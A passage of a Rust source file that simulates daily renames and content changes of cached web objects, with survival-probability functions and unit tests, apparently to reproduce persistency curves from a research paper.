    FastChurn,
}

impl StabilityClass {
    /// Daily probability that the object is renamed (which changes its cache
    /// key and breaks any parasite attached to it).
    pub fn daily_rename_probability(self) -> f64 {
        match self {
            StabilityClass::Permanent => 0.0,
            StabilityClass::SlowChurn => 0.02,
            StabilityClass::FastChurn => 0.25,
        }
    }

    /// Daily probability that the object's content changes while keeping its
    /// name (which flips the hash-persistency curve but not the name curve).
    pub fn daily_content_change_probability(self) -> f64 {
        match self {
            StabilityClass::Permanent => 0.003,
            StabilityClass::SlowChurn => 0.03,
            StabilityClass::FastChurn => 0.30,
        }
    }

    /// Probability that the object survives `days` days without a rename.
    pub fn name_survival(self, days: u32) -> f64 {
        (1.0 - self.daily_rename_probability()).powi(days as i32)
    }

    /// Probability that the object survives `days` days without any change
    /// (neither rename nor content change).
    pub fn hash_survival(self, days: u32) -> f64 {
        let p_keep = (1.0 - self.daily_rename_probability())
            * (1.0 - self.daily_content_change_probability());
        p_keep.powi(days as i32)
    }
}

/// The state of one object on one crawl day.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ObjectObservation {
    /// Path (name) of the object on this day.
    pub path: String,
    /// Content-hash of the object on this day.
    pub content_hash: u64,
}

/// A churning object: its identity plus the mutable state the crawler sees.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ChurningObject {
    /// Original path on day zero.
    pub original_path: String,
    /// Stability class.
    pub class: StabilityClass,
    /// Current path.
    pub current_path: String,
    /// Current content hash.
    pub current_hash: u64,
    /// How many times the object has been renamed.
    pub renames: u32,
    /// How many times the content has changed.
    pub content_changes: u32,
    /// Days simulated so far.
    pub day: u32,
    /// If set, the object is renamed on exactly this day (a planned release),
    /// in addition to the class's daily rename probability. The population
    /// generator uses this to reproduce the gradual decline of Figure 3's
    /// name-persistency curve between the 5-day and 100-day marks.
    pub scheduled_rename_day: Option<u32>,
}

impl ChurningObject {
    /// Creates an object in its day-zero state.
    pub fn new(path: impl Into<String>, class: StabilityClass, initial_hash: u64) -> Self {
        let path = path.into();
        ChurningObject {
            original_path: path.clone(),
            current_path: path,
            class,
            current_hash: initial_hash,
            renames: 0,
            content_changes: 0,
            day: 0,
            scheduled_rename_day: None,
        }
    }

    /// Schedules a one-time rename on `day` (builder style).
    pub fn with_scheduled_rename(mut self, day: u32) -> Self {
        self.scheduled_rename_day = Some(day);
        self
    }

    fn mutate_content(&mut self) {
        self.content_changes += 1;
        self.current_hash = self.current_hash.wrapping_mul(6364136223846793005).wrapping_add(1);
    }

    fn rename(&mut self) {
        self.renames += 1;
        self.current_path = format!("{}.v{}", self.original_path, self.renames);
        // A rename in practice ships new content too.
        self.mutate_content();
    }

    /// Advances the object by one day, possibly renaming it or changing its
    /// content, using `rng` for the daily draws.
    pub fn advance_day<R: Rng>(&mut self, rng: &mut R) {
        self.day += 1;
        if self.scheduled_rename_day == Some(self.day) {
            self.rename();
            return;
        }
        if rng.gen_bool(self.class.daily_rename_probability()) {
            self.rename();
        } else if rng.gen_bool(self.class.daily_content_change_probability()) {
            self.mutate_content();
        }
    }

    /// Returns `true` if the object still has its day-zero name.
    pub fn name_persistent(&self) -> bool {
        self.current_path == self.original_path
    }

    /// Returns `true` if the object still has its day-zero content hash.
    pub fn hash_persistent(&self, original_hash: u64) -> bool {
        self.current_hash == original_hash
    }

    /// What the crawler records for this object today.
    pub fn observe(&self) -> ObjectObservation {
        ObjectObservation {
            path: self.current_path.clone(),
            content_hash: self.current_hash,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn permanent_objects_never_rename() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut object = ChurningObject::new("/static/app.js", StabilityClass::Permanent, 42);
        for _ in 0..365 {
            object.advance_day(&mut rng);
        }
        assert!(object.name_persistent());
        assert_eq!(object.renames, 0);
    }

    #[test]
    fn fast_churn_objects_rename_quickly() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut object = ChurningObject::new("/bundle.js", StabilityClass::FastChurn, 42);
        for _ in 0..30 {
            object.advance_day(&mut rng);
        }
        assert!(!object.name_persistent());
        assert!(object.renames > 0);
    }

    #[test]
    fn survival_probabilities_are_monotone_in_time() {
        for class in [StabilityClass::Permanent, StabilityClass::SlowChurn, StabilityClass::FastChurn] {
            assert!(class.name_survival(5) >= class.name_survival(100));
            assert!(class.hash_survival(5) >= class.hash_survival(100));
            // Hash persistence is always at most name persistence.
            assert!(class.hash_survival(50) <= class.name_survival(50) + 1e-12);
        }
        assert!((StabilityClass::Permanent.name_survival(100) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn content_changes_break_hash_persistence_but_not_name_persistence() {
        let mut rng = StdRng::seed_from_u64(3);
        let original_hash = 42;
        let mut object = ChurningObject::new("/app.js", StabilityClass::Permanent, original_hash);
        for _ in 0..2000 {
            object.advance_day(&mut rng);
        }
        assert!(object.name_persistent());
        assert!(!object.hash_persistent(original_hash), "content should change eventually");
    }

    #[test]
    fn observation_reflects_current_state() {
        let object = ChurningObject::new("/x.js", StabilityClass::SlowChurn, 7);
        let obs = object.observe();
        assert_eq!(obs.path, "/x.js");
        assert_eq!(obs.content_hash, 7);
    }
}
